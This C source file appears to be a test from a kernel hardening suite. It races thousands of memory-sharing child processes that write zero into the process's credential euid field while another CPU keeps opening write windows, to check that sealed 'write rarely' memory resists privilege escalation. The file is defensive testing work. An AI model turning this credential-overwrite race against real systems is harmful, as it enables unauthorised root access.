// SPDX-License-Identifier: GPL-2.0-only
/*
 * Each store is a program of its own, since the kernel ends it; they share memory, so that one
 * costs no more than a thread.
 */
#include "attack.h"

ATTACK("write_rarely", "race_window", "write_rarely: write to sealed memory outside a window",
       "10,000 programs store into the credentials of the first at random moments, while "
       "the other CPU opens write windows in a loop.",
       "A window is open on one CPU only: the key register is the CPU's own.",
       "The program is root.");

#define TRIES 10000u
#define MOMENTS 1021u /* of which each try takes another */
#define STEP 379u

static bool control(void)
{
	return is_ordinary();
}

static _Noreturn void open_windows(void)
{
	(void)own_cpu(0);
	for (;;)
		call3(__NR_setresuid, ATTACKER_UID, ATTACKER_UID, ATTACKER_UID);
}

static _Noreturn void store(uint64_t place, unsigned int number)
{
	for (unsigned int i = 0; i < number * STEP % MOMENTS; i++)
		__asm__ volatile("pause");
	poke32(place, 0);
	leave(0);
}

/* Without a copy of the memory; the parent goes on when this one has ended. */
static int try_once(uint64_t place, unsigned int number)
{
	const long id =
		call5(__NR_clone, CLONE_VM | CLONE_VFORK | CLONE_FILES | SIGCHLD, 0, 0, 0, 0);

	if (id == 0)
		store(place, number);
	return wait_program(id);
}

static bool fire(void)
{
	const uint64_t place = own_credentials(own_task()) + member("credentials.euid");
	const long windows = fork_program();
	unsigned int ended = 0;

	if (windows == 0)
		open_windows();
	(void)own_cpu(1);
	for (unsigned int i = 0; i < TRIES && call0(__NR_geteuid) != 0; i++)
		ended += (try_once(place, i) & 0x7f) == SIGKILL;
	call2(__NR_kill, windows, SIGKILL);
	say_number("attacker: stores that ended their program", ended);
	if (ended == TRIES)
		call2(__NR_kill, call0(__NR_getpid), SIGKILL);
	return call0(__NR_geteuid) == 0;
}

static void victim(void)
{
	victim_waits();
}
